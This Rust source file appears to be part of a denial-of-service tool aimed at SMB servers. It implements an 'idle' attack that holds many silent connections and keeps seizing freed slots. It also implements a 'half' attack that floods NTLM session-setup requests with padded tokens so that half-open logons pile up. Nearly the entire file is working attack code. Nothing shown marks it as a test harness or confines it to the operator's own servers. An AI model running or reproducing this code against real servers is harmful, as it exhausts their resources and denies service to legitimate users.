//! Attacks of somebody who need not be known.

use smb::auth::{Credentials, Initiator};
use smb::wire::{Command, Header, SessionSetupRequest, security_mode};
use smb::{NtStatus, wire};

use super::attack::{Attacker, Got};
use super::hoard::GREED;
use crate::{Error, Result};

/// Logons begun on each connection.
const PER_CONNECTION: u32 = 1_024;

/// Connections that a full attacker adds, for each worker, if it gets them: this end has a
/// limit of descriptors too.
const MORE: usize = 100;

/// Bytes of the first message of a logon.
const MESSAGE: usize = 2_048;

/// (6) Connections that say nothing, all from one address.
pub(super) async fn idle(attacker: &Attacker, got: &mut Got) -> Result<()> {
    while attacker.wants_more(got) {
        match attacker.stream_from_one().await {
            Ok(stream) => {
                got.one();
                got.keep(stream);
            }
            Err(error) => got.refused(error),
        }
    }
    // Takes what becomes free until the siege is over.
    let attacker = attacker.clone();
    tokio::spawn(async move {
        let mut more = Vec::new();
        loop {
            more.extend(attacker.stream_from_one().await);
            more.retain(|stream| !stream.is_closed());
            more.truncate(MORE);
            tokio::time::sleep(GREED).await;
        }
    });
    Ok(())
}

/// (7) The first message of a logon, again and again.
pub(super) async fn half(attacker: &Attacker, got: &mut Got) -> Result<()> {
    let user = attacker.user();
    let credentials = Credentials::new(user.domain(), user.user(), user.password());
    let token = Initiator::new(credentials, "server").start(None);
    let token = padded(&token);
    while attacker.wants_more(got) {
        let (connection, _) = attacker.connection().await?;
        got.keep(connection.clone());
        for _ in 0..PER_CONNECTION {
            if attacker.is_late() {
                return Ok(());
            }
            let mut message = Vec::with_capacity(256);
            Header {
                command: Command::SESSION_SETUP,
                credit_charge: 1,
                credits: 1,
                message_id: connection.take_message_ids(1).await,
                ..Header::default()
            }
            .write(&mut message);
            SessionSetupRequest {
                security_mode: security_mode::SMB2_NEGOTIATE_SIGNING_ENABLED as u8,
                security_buffer: &token,
                ..SessionSetupRequest::default()
            }
            .write(&mut message);
            let answer = connection.exchange(&message).await?;
            match Header::read(&answer).map_err(wrong)?.status {
                NtStatus::MORE_PROCESSING_REQUIRED => got.one(),
                status => got.refused(status),
            }
        }
    }
    Ok(())
}

/// The NTLM message in this token, without SPNEGO around it, as long as servers hold it: the
/// proof of a logon covers its first message.
fn padded(token: &[u8]) -> Vec<u8> {
    let signature = b"NTLMSSP\0";
    let mut windows = token.windows(signature.len());
    let start = windows.position(|window| window == signature).unwrap_or(0);
    let mut message = token[start..].to_vec();
    message.resize(message.len().max(MESSAGE), 0);
    message
}

fn wrong(error: wire::Error) -> Error {
    Error::Smb(error.into())
}
